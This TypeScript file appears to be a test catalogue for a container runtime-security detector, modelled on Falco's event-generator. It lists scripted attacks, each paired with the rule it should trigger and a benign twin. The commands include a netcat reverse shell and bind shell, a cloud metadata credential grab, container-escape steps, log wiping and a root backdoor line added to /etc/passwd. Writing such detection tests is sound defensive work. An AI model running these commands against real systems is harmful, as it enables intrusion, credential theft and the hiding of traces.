// The attack catalogue, after Falco's event-generator: one scripted action per technique, the
// rule it must raise (with the rule's MITRE technique), the container it runs in, and its benign
// twin. Actions run through `docker exec` the way an attacker with a foothold runs them; only
// busybox is in the image, so tools are its applets (nc, nsenter, mount, insmod) and a "miner" is
// busybox copied under a miner's name and run as `sleep` (`exec -a`: busybox picks its applet by
// argv[0], so the copy lives on under its new file name).
import { HOSTS, METADATA_IP } from './attack-host.ts';

export interface Technique {
  id: string;
  /** What the attacker does, for the table. */
  technique: string;
  rule: string;
  mitre: string;
  /** Role of the container it runs in (containers.ts). */
  container: string;
  /** Shell script run with `docker exec CONTAINER sh -c`. */
  action: string;
  /** Run this argv with `docker exec` instead of `sh -c action`. */
  argv?: string[];
  /** Picks the alert among the container's alerts of that rule, by its summary. */
  summary?: RegExp;
  twin: string;
  /** Alert within this long of the action starting (volume rules judge a window: 10 s). */
  limitMs: number;
  /** Needs the workload out of learning (baseline rules). */
  monitoring?: boolean;
  /** Then the attack host connects to this port of the container and sends `line` (inbound). */
  outside?: { port: number; line: string };
}

const miner = 'cp /bin/busybox /tmp/xmrig && (exec -a sleep /tmp/xmrig 8 &)';
const STRATUM = '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}';

export const TECHNIQUES: Technique[] = [
  {
    id: 'metadata',
    technique: 'read cloud credentials from the instance-metadata service',
    rule: 'metadata_service_access',
    mitre: 'T1552.005',
    container: 'atk-meta',
    action: `printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n' | nc -w 2 ${METADATA_IP} 80`,
    twin: 'twin-meta',
    limitMs: 2000,
  },
  {
    id: 'bind-shell',
    technique: 'a bind shell (nc -l -e /bin/sh) the attacker connects to from outside',
    rule: 'unexpected_inbound',
    mitre: 'T1133',
    container: 'atk-inbound',
    action: '(nc -l -p 4445 -e /bin/sh &); sleep 3',
    outside: { port: 4445, line: 'echo pwned\n' },
    twin: 'twin-inbound',
    limitMs: 2000,
    monitoring: true,
  },
  {
    id: 'scan',
    technique: 'scan 40 ports of a neighbour host',
    rule: 'port_scan',
    mitre: 'T1046',
    container: 'atk-scan',
    action: `for p in $(seq 1 40); do nc -w 1 ${HOSTS.dark} $p < /dev/null 2>/dev/null; done; true`,
    twin: 'twin-scan',
    limitMs: 2000,
  },
  {
    id: 'volume',
    technique: 'upload 64 MB in one burst to the usual destination',
    rule: 'egress_volume',
    mitre: 'T1048',
    container: 'atk-volume',
    action: `head -c 67108864 /dev/zero | nc -w 5 ${HOSTS.sink} 443`,
    twin: 'twin-volume',
    limitMs: 10_000,
    monitoring: true,
  },
  {
    id: 'stratum',
    technique: 'a miner logs in to its pool (stratum)',
    rule: 'crypto_mining',
    mitre: 'T1496',
    container: 'atk-mining',
    action: `${miner}; echo '${STRATUM}' | nc -w 2 ${HOSTS.web} 3333 > /dev/null`,
    summary: /stratum mining protocol|mining-pool port/,
    twin: 'twin-mining',
    limitMs: 2000,
  },
  {
    id: 'reverse-shell',
    technique: 'a reverse shell: nc -e /bin/sh to the attacker',
    rule: 'reverse_shell',
    mitre: 'T1059',
    container: 'atk-shell',
    action: `nc ${HOSTS.web} 4444 -e /bin/sh`,
    twin: 'twin-shell',
    limitMs: 2000,
  },
  {
    id: 'nsenter',
    technique: 'enter the host namespaces with nsenter',
    rule: 'container_escape',
    mitre: 'T1611',
    container: 'atk-escape',
    action: 'nsenter -t 1 -m -u -i -n -p sh -c true; true',
    summary: /nsenter/,
    twin: 'twin-escape',
    limitMs: 2000,
  },
  {
    id: 'cgroup-mount',
    technique: 'mount a cgroup file system (release_agent escape, step 1)',
    rule: 'container_escape',
    mitre: 'T1611',
    container: 'atk-escape',
    action: 'mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg; true',
    summary: /mounted a cgroup/,
    twin: 'twin-escape',
    limitMs: 2000,
  },
  {
    id: 'core-pattern',
    technique: 'point the kernel core_pattern at a payload',
    rule: 'container_escape',
    mitre: 'T1611',
    container: 'atk-escape',
    action: 'sh -c "echo \'|/tmp/payload\' > /proc/sys/kernel/core_pattern" 2>/dev/null; true',
    summary: /core_pattern/,
    twin: 'twin-escape',
    limitMs: 2000,
  },
  {
    id: 'insmod',
    technique: 'load a kernel module',
    rule: 'container_escape',
    mitre: 'T1611',
    container: 'atk-escape',
    action: 'echo x > /tmp/rootkit.ko; insmod /tmp/rootkit.ko 2>/dev/null; true',
    summary: /kernel module/,
    twin: 'twin-escape',
    limitMs: 2000,
  },
  {
    id: 'docker-socket',
    technique: 'drive the mounted Docker socket with the docker CLI',
    rule: 'container_escape',
    mitre: 'T1609',
    container: 'atk-socket',
    action: 'docker -H unix:///var/run/docker.sock ps > /dev/null',
    summary: /container-runtime/,
    twin: 'twin-escape',
    limitMs: 2000,
  },
  {
    id: 'shm-exec',
    technique: 'run a dropped binary from /dev/shm',
    rule: 'fileless_execution',
    mitre: 'T1620',
    container: 'atk-fileless',
    action: 'cp /bin/busybox /dev/shm/kworker && exec -a sleep /dev/shm/kworker 3',
    summary: /from \/dev\/shm/,
    twin: 'twin-fileless',
    limitMs: 2000,
  },
  {
    id: 'deleted-exec',
    technique: 'run a binary deleted before it starts (/proc/self/fd)',
    rule: 'fileless_execution',
    mitre: 'T1620',
    container: 'atk-fileless',
    action: 'cp /bin/busybox /tmp/.k && exec 3< /tmp/.k && rm /tmp/.k && exec -a sleep /proc/self/fd/3 3',
    summary: /deleted before it ran/,
    twin: 'twin-fileless',
    limitMs: 2000,
  },
  {
    id: 'history',
    technique: 'delete the shell history',
    rule: 'log_tampering',
    mitre: 'T1070',
    container: 'atk-logs',
    action: 'rm -f /root/.ash_history',
    summary: /ash_history/,
    twin: 'twin-logs',
    limitMs: 2000,
  },
  {
    id: 'truncate-log',
    technique: 'empty the application log',
    rule: 'log_tampering',
    mitre: 'T1070',
    container: 'atk-logs',
    action: ': > /var/log/auth.log',
    summary: /emptied the log \/var\/log\/auth\.log/,
    twin: 'twin-logs',
    limitMs: 2000,
  },
  // Existing rules, through the same harness.
  {
    id: 'drift',
    technique: 'download-and-run: copy a binary into /tmp and run it',
    rule: 'drift_executable',
    mitre: 'T1204',
    container: 'atk-process',
    action: 'cp /bin/busybox /tmp/updater && chmod +x /tmp/updater && exec -a sleep /tmp/updater 2',
    twin: 'twin-process',
    limitMs: 2000,
  },
  {
    id: 'passwd',
    technique: 'add a user to /etc/passwd',
    rule: 'sensitive_file_change',
    mitre: 'T1543',
    container: 'atk-process',
    action: "echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd",
    twin: 'twin-process',
    limitMs: 2000,
  },
  {
    id: 'exec',
    technique: 'run a command through docker exec',
    rule: 'interactive_exec',
    mitre: 'T1609',
    container: 'atk-process',
    action: 'id > /dev/null',
    summary: /id > \/dev\/null/,
    twin: 'twin-process',
    limitMs: 2000,
  },
  {
    id: 'egress',
    technique: 'connect to a destination never seen while learning',
    rule: 'unexpected_egress',
    mitre: 'T1041',
    container: 'atk-process',
    action: `echo hi | nc -w 1 ${HOSTS.services} 7005 > /dev/null`,
    twin: 'twin-process',
    limitMs: 2000,
    monitoring: true,
  },
];
